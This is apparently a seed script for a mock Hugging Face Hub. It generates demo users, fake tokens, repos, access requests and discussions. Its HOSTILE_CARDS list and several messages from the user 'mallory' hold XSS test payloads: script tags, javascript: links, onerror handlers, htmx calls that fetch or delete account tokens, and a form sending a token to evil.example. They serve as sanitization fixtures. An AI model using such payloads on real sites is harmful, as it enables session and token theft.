"""`--seed demo`: a realistic, deterministic world of people, orgs and about 300 repos.

Documented tokens (see README.md beside this file):
  alice  hf_demo_alice_write (write), hf_demo_alice_read (read), hf_demo_alice_fine (fine-grained: acme)
  bob    hf_demo_bob_write (write)      carol  hf_demo_carol_read (read)
  dave   hf_demo_dave_write (write; contributor in acme)     mallory hf_demo_mallory_write (outsider)
"""

from __future__ import annotations

import hashlib
import json
import math
import random
from datetime import UTC, date, datetime

from . import discussions as dz
from .state import Account, UsageSeries, World, day_of
from .vocab import DATASET_NAMES, LANGUAGES, LICENSES, PIPELINES, TASK_CATEGORIES

START = datetime(2021, 3, 1, tzinfo=UTC).timestamp()
END = datetime(2026, 11, 1, tzinfo=UTC).timestamp()

USERS = [
    # name, fullname, orgs, tokens
    (
        "alice",
        "Alice Martin",
        {"acme": "admin", "datalab": "write"},
        {
            "hf_demo_alice_write": "write",
            "hf_demo_alice_read": "read",
            "hf_demo_alice_fine": {
                "role": "fineGrained",
                "displayName": "acme-ci",
                "scoped": [
                    {"entity": {"type": "org", "name": "acme"}, "permissions": ["repo.content.read", "repo.write"]}
                ],
                "global": ["discussion.write"],
            },
        },
    ),
    ("bob", "Bob Nakamura", {"acme": "write"}, {"hf_demo_bob_write": "write"}),
    ("carol", "Carol Diaz", {"acme": "read", "datalab": "admin"}, {"hf_demo_carol_read": "read"}),
    ("dave", "Dave Okafor", {"acme": "contributor"}, {"hf_demo_dave_write": "write"}),
    ("mallory", "Mallory", {}, {"hf_demo_mallory_write": "write"}),
]
PUBLIC_ORGS = ["northwind-ai", "openlab", "lumen", "polyglot-nlp", "vision-works", "soundscape", "tabula"]

ARCHS = {
    "text-classification": ("bert", "transformers", ["distilbert", "roberta", "deberta", "bert"]),
    "token-classification": ("bert", "transformers", ["bert", "xlm-roberta"]),
    "question-answering": ("roberta", "transformers", ["roberta", "deberta", "electra"]),
    "fill-mask": ("bert", "transformers", ["bert", "roberta", "camembert"]),
    "summarization": ("t5", "transformers", ["t5", "bart", "pegasus"]),
    "translation": ("marian", "transformers", ["marian", "t5", "nllb"]),
    "text-generation": ("llama", "transformers", ["llama", "mistral", "gpt2", "qwen2", "phi"]),
    "sentence-similarity": ("bert", "sentence-transformers", ["minilm", "mpnet", "bge"]),
    "feature-extraction": ("bert", "sentence-transformers", ["e5", "gte", "bge"]),
    "image-classification": ("vit", "timm", ["vit", "resnet", "convnext", "efficientnet"]),
    "object-detection": ("detr", "transformers", ["detr", "yolos"]),
    "image-segmentation": ("segformer", "transformers", ["segformer", "mask2former"]),
    "text-to-image": ("unet", "diffusers", ["sd", "sdxl", "flux"]),
    "image-to-text": ("blip", "transformers", ["blip", "git"]),
    "automatic-speech-recognition": ("whisper", "transformers", ["whisper", "wav2vec2"]),
    "text-to-speech": ("vits", "transformers", ["vits", "speecht5"]),
    "audio-classification": ("ast", "transformers", ["ast", "hubert"]),
    "reinforcement-learning": ("ppo", "stable-baselines3", ["ppo", "dqn", "a2c"]),
}
SIZES = ["tiny", "mini", "small", "base", "medium", "large", "xl", "1b", "3b", "7b"]
FLAVOURS = [
    "sentiment",
    "news",
    "legal",
    "medical",
    "finance",
    "chat",
    "instruct",
    "code",
    "multilingual",
    "squad",
    "imdb",
    "v2",
    "distilled",
    "quantized",
    "finetuned",
    "lora",
]
DATASET_THEMES = [
    "reviews",
    "news",
    "dialogues",
    "receipts",
    "tweets",
    "wiki",
    "patents",
    "recipes",
    "code",
    "speech",
    "images",
    "invoices",
    "questions",
    "translations",
    "emails",
    "captions",
]
SPACE_THEMES = ["demo", "playground", "leaderboard", "chat", "explorer", "arena", "viewer", "studio"]

HOSTILE_CARDS = [
    (
        "mallory/friendly-model",
        "model",
        "# Friendly model\n\n<script>document.title='pwned'</script>\n\n"
        "[Read the docs](javascript:alert(document.cookie))\n\n"
        '<div hx-get="/account/token/" hx-trigger="load" hx-target="body">loading…</div>\n\n'
        '<img src="x" onerror="alert(1)">\n',
    ),
    (
        "mallory/helpful-dataset",
        "dataset",
        '# Helpful dataset\n\n<iframe src="https://evil.example/"></iframe>\n\n'
        '<a href="javascript:fetch(\'/account/\')" hx-post="/account/token/delete/">click me</a>\n\n'
        "<style>body{display:none}</style>\n",
    ),
    (
        "mallory/shiny-space",
        "space",
        '# Shiny space\n\n<form action="https://evil.example/steal"><input name="token"></form>\n\n'
        '<svg onload="alert(1)"></svg> <span hx-on:click="alert(1)">hover</span>\n',
    ),
]


METRICS = [
    ("accuracy", "# Accuracy\n\nThe proportion of correct predictions among all predictions.\n"),
    ("bleu", "# BLEU\n\nHow close a machine translation is to reference translations.\n"),
    ("rouge", "# ROUGE\n\nOverlap of n-grams between a summary and its references.\n"),
    ("f1", "# F1\n\nThe harmonic mean of precision and recall.\n"),
    ("exact_match", "# Exact Match\n\nThe share of predictions identical to their reference.\n"),
]


def _card(meta: dict, body: str) -> str:
    lines = ["---"]
    for key, value in meta.items():
        lines.append(f"{key}: {json.dumps(value)}")
    lines += ["---", "", body]
    return "\n".join(lines)


# The gate form of acme/gated-llm (card metadata, shared/hub-api.md §15.1): one field of each kind.
GATE_FORM = {
    "extra_gated_prompt": "Tell us who you are and how you will use the model.",
    "extra_gated_fields": {
        "Company": "text",
        "Country": "country",
        "Intended use": {
            "type": "select",
            "options": ["Research", "Education", {"label": "Commercial", "value": "commercial"}],
        },
        "I agree to the license terms": "checkbox",
    },
}
# Requesters of the demo's gated repos: name, full name, email, verified orgs, PRO.
REQUESTERS = [
    ("ana-ribeiro", "Ana Ribeiro", "ana@uni-lisboa.pt", [], False),
    ("bjorn-lind", "Björn Lind", "bjorn.lind@nordic-ai.se", ["nordic-ai"], True),
    ("chen-wei", "Chen Wei", "chen.wei@tsinghua.edu.cn", ["tsinghua"], False),
    ("dara-obi", "Dara Obi", "dara@gmail.com", [], False),
    ("elif-sahin", "Elif Şahin", "elif@bigcorp.com", ["bigcorp"], True),
    ("farid-haddad", "Farid Haddad", "farid@bigcorp.com", ["bigcorp"], False),
    ("greta-muller", "Greta Müller", "greta.mueller@tum.de", ["tum"], False),
    ("hiro-tanaka", "Hiro Tanaka", "hiro@example.jp", [], True),
    ("ines-garcia", "Inés García", "ines@upf.edu", [], False),
    ("jonas-berg", "Jonas Berg", "jonas@gmail.com", [], False),
    ("kemi-adeyemi", "Kemi Adeyemi", "kemi@lagos-ml.ng", ["lagos-ml"], False),
    ("lucas-martin", "Lucas Martin", "lucas.martin@inria.fr", ["inria"], True),
    ("maya-cohen", "Maya Cohen", "maya@startup.io", [], False),
    ("nils-olsen", "Nils Olsen", "nils@protonmail.com", [], False),
    ("olga-ivanova", "Olga Ivanova", "olga@bigcorp.com", ["bigcorp"], False),
    ("priya-nair", "Priya Nair", "priya.nair@iisc.ac.in", ["iisc"], True),
    ("quentin-roy", "Quentin Roy", "quentin@outlook.com", [], False),
    ("rosa-lopez", "Rosa López", "rosa@unam.mx", [], False),
    ("sam-taylor", "Sam Taylor", "sam.taylor@ox.ac.uk", ["oxford"], False),
    ("tomas-novak", "Tomáš Novák", "tomas@cvut.cz", [], False),
    ("uma-patel", "Uma Patel", "uma@health-data.org", [], True),
    ("victor-hugo", "Victor Hugo", "victor@gmail.com", [], False),
    ("wen-li", "Wen Li", "wen.li@bigcorp.com", ["bigcorp"], False),
    ("xavier-dupont", "Xavier Dupont", "xavier@mistral-labs.fr", [], True),
    ("yara-haddad", "Yara Haddad", "yara@aub.edu.lb", [], False),
    ("zoe-evans", "Zoë Evans", "zoe@example.com", [], False),
]
COUNTRIES = ["PT", "SE", "CN", "NG", "TR", "DE", "JP", "ES", "FR", "IN", "GB", "MX", "US", "CZ"]
COMPANIES = ["University of Lisbon", "Nordic AI", "Tsinghua", "", "BigCorp", "Inria", "a start-up", "freelance"]
USES = ["Research", "Education", "commercial"]


def _access_requests(world: World) -> None:
    """Gated repos in acme and alice with pending, accepted and rejected requests (deterministic)."""
    rng = random.Random(2112)
    base = datetime(2026, 10, 1, tzinfo=UTC).timestamp()
    for name, fullname, email, verified, pro in REQUESTERS:
        world.add_user(name, fullname, email=email, is_pro=pro, verified_orgs=verified)
    world.add_user("elif-sahin", orgs={"bigcorp": "write"})
    world.add_user("farid-haddad", orgs={"bigcorp": "read", "openlab": "read"})
    world.add_user("lucas-martin", orgs={"inria": "admin"})
    world.accounts["bigcorp"].fullname = "BigCorp"
    world.accounts["inria"].fullname = "Inria"

    def weights(seed: str) -> dict[str, object]:
        return {
            "README.md": _card({"license": "other"}, "# Gated\n\nAsk for access.\n"),
            "model.safetensors": {"size": 200_000, "seed": seed},
        }

    old = datetime(2022, 5, 1, tzinfo=UTC).timestamp()
    world.create_repo(
        "dataset", "acme/clinical-notes", gated="manual", created_by="alice", created_at=old, files=weights("clinical")
    )
    world.create_repo(
        "model", "alice/gated-tiny-llm", gated="manual", created_by="alice", created_at=old, files=weights("tiny")
    )
    world.create_repo(
        "model", "acme/auto-weights", gated="manual", created_by="bob", created_at=old, files=weights("auto")
    )
    world.repos[("dataset", "acme/clinical-notes")].hide_requesters = True
    plan = [  # repo, how many pending, accepted, rejected
        (("model", "acme/gated-llm"), 15, 4, 2),
        (("dataset", "acme/clinical-notes"), 10, 2, 1),
        (("model", "alice/gated-tiny-llm"), 12, 3, 1),
        (("model", "acme/auto-weights"), 5, 0, 0),  # filed before it moved to automatic gating
    ]
    deciders = {"acme": world.accounts["alice"], "alice": world.accounts["alice"]}
    for key, pending, accepted, rejected in plan:
        repo = world.repos[key]
        people = rng.sample(REQUESTERS, pending + accepted + rejected)
        for n, (name, *_rest) in enumerate(people):
            fields = None
            if repo.id == "acme/gated-llm":
                fields = {
                    "Company": rng.choice(COMPANIES),
                    "Country": rng.choice(COUNTRIES),
                    "Intended use": rng.choice(USES),
                    "I agree to the license terms": "on",
                }
            stamp = int((base + rng.uniform(0, 60 * 86400)) * 1000)
            record = world.file_access_request(repo, world.accounts[name], fields, stamp)
            if n >= pending:
                status = "accepted" if n < pending + accepted else "rejected"
                reason = "Please use your work email." if status == "rejected" else None
                world.set_access(repo, record, status, deciders[repo.namespace], reason)
                record.reviewed_at = stamp / 1000 + rng.uniform(3600, 5 * 86400)
    auto = world.repos[("model", "acme/auto-weights")]
    auto.gated = "auto"
    for name, *_rest in REQUESTERS[-4:]:  # automatic gating accepts at once
        if world.accounts[name].id not in auto.access_requests:
            stamp = int((base + rng.uniform(0, 60 * 86400)) * 1000)
            world.file_access_request(auto, world.accounts[name], None, stamp).reviewed_at = stamp / 1000


def demo(world: World) -> None:
    rng = random.Random(20261126)
    for name, fullname, orgs, tokens in USERS:
        world.add_user(name, fullname, orgs, tokens, email=f"{name}@example.com")
    world.accounts["acme"].fullname = "ACME Research"
    world.accounts["acme"].plan = "team"
    world.accounts["datalab"].fullname = "Data Lab"
    for org in PUBLIC_ORGS:
        world.add_user(f"{org}-bot", orgs={org: "admin"})
        world.accounts[org].fullname = org.replace("-", " ").title()
    owners = ["acme"] * 5 + ["datalab"] * 3 + ["alice"] * 2 + ["bob"] + PUBLIC_ORGS * 2
    used: set[tuple[str, str]] = set()

    def when() -> tuple[float, float]:
        created = rng.uniform(START, END - 86400 * 30)
        return created, rng.uniform(created, END)

    def unique(repo_type: str, owner: str, name: str) -> str:
        repo_id, n = f"{owner}/{name}", 2
        while (repo_type, repo_id) in used:
            repo_id, n = f"{owner}/{name}-{n}", n + 1
        used.add((repo_type, repo_id))
        return repo_id

    def popularity() -> tuple[int, int, int]:
        downloads = int(rng.lognormvariate(7, 2.5))
        return downloads, int(downloads**0.5 * rng.uniform(0.05, 0.6)), rng.randint(0, 120)

    def private_for(owner: str) -> bool:
        return owner in ("acme", "datalab", "alice", "bob") and rng.random() < 0.3

    for _ in range(180):
        pipeline = rng.choice(list(ARCHS))
        model_type, library, archs = ARCHS[pipeline]
        owner = rng.choice(owners)
        arch = rng.choice(archs)
        repo_id = unique("model", owner, f"{arch}-{rng.choice(SIZES)}-{rng.choice(FLAVOURS)}")
        created, modified = when()
        downloads, likes, trending = popularity()
        languages = rng.sample(list(LANGUAGES), rng.choice([1, 1, 1, 2, 3]))
        meta = {
            "license": rng.choice(list(LICENSES)),
            "language": languages,
            "library_name": library,
            "pipeline_tag": pipeline,
            "tags": rng.sample(
                ["exbert", "endpoints_compatible", "conversational", "lora", "text-generation-inference"],
                rng.randint(0, 2),
            ),
            "datasets": rng.sample(DATASET_NAMES, rng.randint(0, 2)),
        }
        body = (
            f"# {repo_id.split('/')[1]}\n\nA {arch} model for {PIPELINES[pipeline][0].lower()}, "
            f"trained by {owner}.\n\n## Usage\n\n```python\nfrom {library.replace('-', '_')} import pipeline\n```\n\n"
            "| metric | value |\n|---|---|\n"
            f"| accuracy | {rng.uniform(0.7, 0.99):.3f} |\n"
        )
        weight = {"size": rng.choice([200_000, 1_500_000, 6_000_000, 24_000_000, 60_000_000]), "seed": repo_id}
        files: dict[str, object] = {
            "README.md": _card(meta, body),
            "config.json": json.dumps({"architectures": [f"{arch.title()}Model"], "model_type": model_type}, indent=2),
            "model.safetensors": weight,
        }
        if library == "transformers" and rng.random() < 0.6:
            files["tokenizer.json"] = json.dumps({"version": "1.0", "model": {"type": "BPE"}})
        gated = rng.choice(["manual", "auto"]) if rng.random() < 0.06 else False
        world.create_repo(
            "model",
            repo_id,
            private=private_for(owner),
            created_at=created,
            modified_at=modified,
            files=files,
            downloads=downloads,
            downloads_all_time=downloads * rng.randint(2, 12),
            likes=likes,
            trending_score=trending,
            pipeline_tag=pipeline,
            library_name=library,
            extra_tags=["pytorch", "safetensors", model_type] if library == "transformers" else ["safetensors"],
            config={"architectures": [f"{arch.title()}Model"], "model_type": model_type},
            gated=gated,
            created_by=owner,
        )

    for _ in range(80):
        owner = rng.choice(owners)
        theme = rng.choice(DATASET_THEMES)
        repo_id = unique(
            "dataset", owner, f"{theme}-{rng.choice(['en', 'multi', '2024', '2025', 'clean', 'v1', 'mini'])}"
        )
        created, modified = when()
        downloads, likes, trending = popularity()
        meta = {
            "license": rng.choice(list(LICENSES)),
            "language": rng.sample(list(LANGUAGES), rng.choice([1, 1, 2])),
            "task_categories": rng.sample(TASK_CATEGORIES, rng.randint(1, 2)),
            "size_categories": [rng.choice(["n<1K", "1K<n<10K", "10K<n<100K", "100K<n<1M", "1M<n<10M"])],
            "tags": rng.sample(["synthetic", "croissant", "benchmark"], rng.randint(0, 1)),
        }
        files = {
            "README.md": _card(meta, f"# {repo_id.split('/')[1]}\n\nA dataset of {theme}.\n"),
            "data/train-00000-of-00001.parquet": {"size": rng.choice([50_000, 800_000, 12_000_000]), "seed": repo_id},
            "data/test-00000-of-00001.parquet": {"size": rng.choice([10_000, 200_000]), "seed": repo_id + "/test"},
        }
        world.create_repo(
            "dataset",
            repo_id,
            private=private_for(owner),
            created_at=created,
            modified_at=modified,
            files=files,
            downloads=downloads,
            downloads_all_time=downloads * 3,
            likes=likes,
            trending_score=trending,
            extra_tags=["format:parquet", "modality:text", "library:datasets"],
            gated="auto" if rng.random() < 0.05 else False,
            created_by=owner,
            description=f"A dataset of {theme}.",
        )

    for _ in range(37):
        owner = rng.choice(owners)
        sdk = rng.choice(["gradio", "gradio", "streamlit", "docker", "static"])
        repo_id = unique("space", owner, f"{rng.choice(DATASET_THEMES)}-{rng.choice(SPACE_THEMES)}")
        created, modified = when()
        _, likes, trending = popularity()
        readme = _card(
            {"title": repo_id.split("/")[1], "emoji": "🚀", "sdk": sdk, "license": "mit"},
            f"# {repo_id.split('/')[1]}\n\nA {sdk} Space.\n",
        )
        files = {"README.md": readme, "app.py": "import gradio as gr\n", "requirements.txt": "gradio\n"}
        world.create_repo(
            "space",
            repo_id,
            private=private_for(owner),
            created_at=created,
            modified_at=modified,
            files=files,
            likes=likes,
            trending_score=trending,
            sdk=sdk,
            created_by=owner,
        )

    for repo_id, repo_type, text in HOSTILE_CARDS:
        created, modified = when()
        meta = {"license": "mit", "tags": ["demo"]}
        if repo_type == "space":
            meta["sdk"] = "static"
        world.create_repo(
            repo_type,
            repo_id,
            created_at=created,
            modified_at=modified,
            files={"README.md": _card(meta, text)},
            sdk="static" if repo_type == "space" else None,
            created_by="mallory",
            likes=1,
        )

    # Where the Hub's metrics live today (the seed's /api/metrics list is gone): Spaces of evaluate-metric.
    world.add_user("evaluate-metric-bot", orgs={"evaluate-metric": "admin"})
    world.accounts["evaluate-metric"].fullname = "Evaluate Metric"
    for metric, about in METRICS:
        created, modified = when()
        world.create_repo(
            "space",
            f"evaluate-metric/{metric}",
            created_at=created,
            modified_at=modified,
            files={"README.md": _card({"title": metric, "sdk": "gradio", "tags": ["evaluate", "metric"]}, about)},
            sdk="gradio",
            created_by="evaluate-metric-bot",
            likes=rng.randint(5, 90),
        )

    # A few fixed repos that documentation and tests can name.
    world.create_repo(
        "model",
        "acme/gated-llm",
        gated="manual",
        pipeline_tag="text-generation",
        library_name="transformers",
        created_by="alice",
        files={
            "README.md": _card(
                {"license": "llama3", "pipeline_tag": "text-generation", **GATE_FORM},
                "# Gated LLM\n\nAsk for access.\n",
            ),
            "model.safetensors": {"size": 3_000_000, "seed": "gated"},
        },
    )
    world.create_repo(
        "model",
        "acme/internal-classifier",
        private=True,
        pipeline_tag="text-classification",
        library_name="transformers",
        created_by="bob",
        files={"README.md": _card({"license": "other"}, "# Internal classifier\n")},
    )
    _access_requests(world)
    _discussions(world)
    _usage_series(world)


def _discussions(world: World) -> None:
    """Discussions and pull requests on acme's and alice's repos, in November 2026 (the demo clock's 2026-12-01 is
    "now"): open, draft, closed and merged; by outsiders and members; some answered by a member, some waiting on
    one; a pull request with a text diff (acme/gated-llm #3), one with a conflict (acme/auto-weights #2), hostile
    text from mallory, a hidden and an edited comment, a pinned discussion, a private repo's discussion."""

    def at(day: int, hour: int = 10, month: int = 11) -> float:
        return datetime(2026, month, day, hour, tzinfo=UTC).timestamp()

    def who(name: str) -> Account:
        return world.accounts[name]

    def talk(key: tuple[str, str], author: str, title: str, text: str, when: float, pr: bool = False) -> dz.Discussion:
        return dz.open_discussion(world, world.repos[key], who(author), title, text, pull_request=pr, when=when)

    def push(key: tuple[str, str], pull: dz.Discussion, author: str, files: dict[str, object], when: float) -> None:
        repo = world.repos[key]
        tree = dict(repo.commits[repo.branches[pull.ref]].files)
        tree.update({path: world.entry_for(path, data) for path, data in files.items()})
        pull.status = "open"  # filed with its changes
        dz.commit_to_pr(world, repo, pull, who(author), tree, pull.title, when)

    def reply(pull: dz.Discussion, author: str, text: str, when: float) -> dz.Event:
        return dz.add_comment(pull, who(author), text, when)

    llm, weights = ("model", "acme/gated-llm"), ("model", "acme/auto-weights")
    notes, internal, tiny = (
        ("dataset", "acme/clinical-notes"),
        ("model", "acme/internal-classifier"),
        ("model", "alice/gated-tiny-llm"),
    )

    # acme/gated-llm: outsiders asking, a typo fix waiting for a merge, a closed ONNX proposal, hostile text.
    first = talk(
        llm, "maya-cohen", "Access request pending for two weeks", "I asked for access on Nov 1st. Any news?", at(10)
    )
    spam = reply(
        first, "mallory", "Skip the queue: [free access](https://evil.example/) <script>alert(1)</script>", at(11)
    )
    dz.hide_comment(spam, who("alice"))
    licence = talk(
        llm, "hiro-tanaka", "Which license applies to fine-tuned weights?", "Does **llama3** cover derivatives?", at(12)
    )
    answer = reply(licence, "alice", "Yes, the llama3 license covers them.", at(13, 9))
    dz.edit_comment(answer, who("alice"), "Yes: the llama3 license covers fine-tuned weights too.", at(13, 11))
    reply(licence, "hiro-tanaka", "Thanks! And for commercial use above 700M users?", at(20))
    typo = talk(llm, "kemi-adeyemi", "Fix typo in the model card", "A small wording fix.", at(18), pr=True)
    card = (world.repos[llm].head.files["README.md"].content or b"").decode()
    push(
        llm,
        typo,
        "kemi-adeyemi",
        {"README.md": card.replace("Ask for access.", "Ask for access; it takes two days.")},
        at(18),
    )
    reply(typo, "bob", "Looks good, thanks! Merging after the release.", at(19))
    onnx = talk(llm, "ana-ribeiro", "Add an ONNX export", "For onnxruntime users.", at(6), pr=True)
    push(llm, onnx, "ana-ribeiro", {"model.onnx": {"size": 4096, "seed": "onnx"}}, at(6))
    reply(onnx, "bob", "We don't ship ONNX weights, sorry.", at(8))
    dz.set_status(onnx, who("bob"), "closed", at(8, 11))
    bench = talk(llm, "lucas-martin", "Benchmark numbers?", "Where are the MMLU results?", at(5, 9, month=10))
    reply(bench, "alice", "In the card's evaluation section now.", at(7, 9, month=10))
    dz.set_status(bench, who("alice"), "closed", at(7, 10, month=10))
    talk(
        llm,
        "mallory",
        "Claim your prize <img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">click</a>',
        at(25),
    )

    # acme/auto-weights: a member's draft, an outsider's pull request that conflicts with main.
    talk(weights, "bob", "Add a safetensors index", "Work in progress.", at(26), pr=True)
    results = talk(weights, "priya-nair", "Add evaluation results", "Results on three benchmarks.", at(22), pr=True)
    repo = world.repos[weights]
    oldest = next(c for c in repo.commits.values() if not c.parents)
    repo.branches[results.ref] = oldest.id  # made from an old clone: README.md changed on both sides
    push(
        weights,
        results,
        "priya-nair",
        {"README.md": "# Auto weights\n\n| benchmark | score |\n|---|---|\n| arc | 61.2 |\n"},
        at(22),
    )

    # acme/clinical-notes: an outsider answered by a read member; a member's merged pull request.
    subset = talk(
        notes, "uma-patel", "Is there a de-identified subset?", "We can only use de-identified notes.", at(15)
    )
    reply(subset, "carol", "All notes are de-identified; see the card.", at(16))
    section = talk(notes, "dave", "Add a data card section", "Describes the collection.", at(4), pr=True)
    readme = (world.repos[notes].head.files["README.md"].content or b"").decode()
    push(notes, section, "dave", {"README.md": readme + "\n## Collection\n\nNotes from three hospitals.\n"}, at(4))
    dz.merge(world, world.repos[notes], section, who("alice"), at(5))

    # acme/internal-classifier (private): members only.
    retrain = talk(internal, "bob", "Retrain on Q4 data", "The Q4 export is ready.", at(28))
    reply(retrain, "alice", "Let's do it next week.", at(29))

    # alice/gated-tiny-llm: a user's repo (its owner marks as owner), a merged outsider PR, a pinned roadmap.
    talk(tiny, "jonas-berg", "Tokenizer missing?", "I can't find tokenizer.json.", at(27))
    tokenizer = talk(tiny, "chen-wei", "Add tokenizer.json", "The tokenizer from training.", at(20), pr=True)
    push(tiny, tokenizer, "chen-wei", {"tokenizer.json": '{"version": "1.0", "model": {"type": "BPE"}}\n'}, at(20))
    reply(tokenizer, "alice", "Thank you!", at(21, 9))
    dz.merge(world, world.repos[tiny], tokenizer, who("alice"), at(21))
    roadmap = talk(tiny, "alice", "Roadmap", "- v2 in December\n- a 1B variant", at(1))
    roadmap.pinned = True

    # A Space of acme's: an outsider's bug report, waiting.
    space = next(r for r in world.repos.values() if r.type == "space" and r.namespace == "acme" and not r.private)
    talk(
        ("space", space.id), "zoe-evans", "The demo crashes on upload", "Uploading a 20 MB file gives an error.", at(29)
    )


SPIKE_REPO = ("model", "acme/gated-llm")  # downloads jump on the 15th of every month
SPIKE_DOWNLOADS = 25_000


def _usage_series(world: World) -> None:
    """Every repo's figures from day to day (state.UsageSeries), from a hash of its type and id, so that they
    do not depend on the order repos were made in: downloads growing at about the seed's 30-day figure a day
    / 30 from creation (one repo in eight dormant: flat since before the seed began), with a wave of 0 to 81 %
    over 5 to 29 days (low rates have flat days); likes reaching the seed's figure on END; storage of the
    stored files plus a base of up to 6.5 MB, growing by 4 KB to 1 MB a day on one repo in four. A series starts
    on the repo's creation day, or on END for the repos the seed makes "now"."""
    end = day_of(END)
    for repo in world.repos.values():
        h = hashlib.sha256(f"{repo.type}/{repo.id}".encode()).digest()
        start = min(day_of(repo.created_at), end)  # repos the seed makes "now" start on END: the same every run
        series = UsageSeries(
            start=start,
            wave=(h[1] % 10) / 10 * 0.9,
            period=7.0 if h[2] % 2 else float(5 + h[2] % 25),
            phase=h[3] / 255 * 2 * math.pi,
            likes_rate=repo.likes / max(1, end - start),
            storage_base=(h[4] * 256 + h[5]) * 100,
            storage_rate=float((h[7] + 1) * 4096) if h[6] % 4 == 0 else 0.0,
        )
        if repo.type != "space":
            if h[0] % 8 == 0:
                series.downloads0 = repo.downloads_all_time
            else:
                series.rate = repo.downloads / 30
        repo.usage = series
    spiky = world.repos[SPIKE_REPO].usage
    assert spiky is not None
    spiky.rate, spiky.wave, spiky.likes_rate = 40.0, 0.5, 0.4
    spiky.spikes = {
        date(year, month, 15).toordinal(): SPIKE_DOWNLOADS for year in range(2024, 2029) for month in range(1, 13)
    }
